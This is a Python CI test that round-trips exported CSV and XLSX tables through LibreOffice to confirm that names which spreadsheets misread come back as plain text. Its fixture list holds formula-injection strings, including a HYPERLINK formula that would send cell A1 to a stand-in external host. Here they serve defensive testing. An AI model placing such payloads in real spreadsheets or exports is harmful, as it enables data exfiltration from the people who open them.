#!/usr/bin/env python3
"""Opens tables with LibreOffice, saves them from there as CSV, and compares each cell.

    python3 .ci/check_sheets.py PROGRAM DATABASE FOLDER

In a copy of the database in FOLDER, actors are first given names that spreadsheets like to spoil:
formulas, leading zeros, long numbers, what looks like a date, several lines. Every cell of the
workbook and of every CSV file must come back as it was; of the workbook, dates must be dates and
ids of articles links.

Needs LibreOffice Calc (`soffice`), and from PyPI openpyxl.
"""

import csv
import datetime
import pathlib
import subprocess

import openpyxl
from hard import folder, harden, run

NAMES = [
    '=HYPERLINK("https://x.example/?"&A1,"click")',
    "=1+1",
    "+49 30 1234",
    "-2+3",
    "@SUM(1+1)",
    "007",
    "12345678901234567890",
    "2025-03-04",
    "1/2",
    "TRUE",
    "1e5",
    'two\nlines, "quoted"; 北京 🕊',
]
# Separator, quotation mark, UTF-8, first row. Reading: columns of any type, no language, quoted
# cells are text, no special numbers. Writing: all cells as shown, no formulas; every sheet.
READ = "CSV:44,34,76,1,,0,true,false"
WRITE = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"

def convert(files: list[pathlib.Path], target: pathlib.Path, *options: str) -> None:
    """Lets LibreOffice save files as CSV."""
    home = (folder / "home").resolve().as_uri()
    command = ["soffice", f"-env:UserInstallation={home}", "--headless", *options]
    command += ["--convert-to", WRITE, "--outdir", str(target), *map(str, files)]
    done = subprocess.run(command, check=True, capture_output=True, text=True, timeout=300)
    assert "Error" not in done.stderr, done.stderr


def rows(path: pathlib.Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as file:
        return [[plain(cell) for cell in row] for row in csv.reader(file)]


def plain(cell: str) -> str:
    """A cell with line ends as all systems have them."""
    return cell.replace("\r\n", "\n").replace("\r", "\n")


def same(told: str, found: str, in_csv: bool) -> bool:
    """Whether two cells are the same text, or the same number: no name is one, except in CSV."""
    if told == found:
        return True
    if told in NAMES and not in_csv:
        return False
    try:
        return abs(float(told) - float(found)) < 1e-9 * max(1.0, abs(float(told)))
    except ValueError:
        return False


def compare(what: str, told: list[list[str]], found: list[list[str]]) -> int:
    in_csv = what.startswith("CSV")
    assert len(told) == len(found), f"{what}: {len(found)} rows, not {len(told)}"
    cells = 0
    for number, (own, other) in enumerate(zip(told, found), 1):
        # Columns at the end that are empty throughout are not saved.
        other = other + [""] * (len(own) - len(other))
        assert len(own) == len(other), f"{what}: row {number} has {len(other)} cells"
        for column, one, two in zip(told[0], own, other):
            assert same(one, two, in_csv), f"{what}: row {number}: {column} is {two!r}, not {one!r}"
            cells += 1
    return cells


def check_workbook(book: pathlib.Path) -> None:
    """Names are text, dates dates; headers are frozen and filtered; articles are linked."""
    sheets = openpyxl.load_workbook(book)
    found = set()
    for sheet in sheets:
        columns = {cell.value: cell.column for cell in sheet[1]}
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref, sheet.title
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}: {cell.coordinate} is a formula"
        links = sum(cell.hyperlink is not None for row in sheet.iter_rows() for cell in row)
        assert bool(links) == any(name.endswith(("article_id", "url")) for name in columns), sheet.title
        if sheet.title == "actors":
            cells = [row[columns["name"] - 1].value for row in sheet.iter_rows(min_row=2)]
            found = set(cells)
        if sheet.title == "meetings":
            days = [row[columns["date_from"] - 1].value for row in sheet.iter_rows(min_row=2)]
            assert any(days) and all(isinstance(it, datetime.date | None) for it in days), days
    assert not (missing := set(NAMES) - found), missing


if __name__ == "__main__":
    harden(NAMES)
    run("export", "--output", folder / "tables", "--bom")
    run("export", "--output", folder / "raw", "--raw")
    run("export", "--output", folder / "tables.xlsx")
    check_workbook(folder / "tables.xlsx")
    files = sorted((folder / "tables").glob("*.csv"))
    convert(files, folder / "from-csv", f"--infilter={READ}")
    convert([folder / "tables.xlsx"], folder / "from-xlsx")
    total = 0
    for file in files:
        total += compare(f"CSV {file.stem}", rows(file), rows(folder / "from-csv" / f"{file.stem}-{file.name}"))
        saved = folder / "from-xlsx" / f"tables-{file.stem}.csv"
        total += compare(f"XLSX {file.stem}", rows(folder / "raw" / file.name), rows(saved))
    print(f"LibreOffice: {total} cells of {len(files)} tables, as CSV and as XLSX, came back as they were")
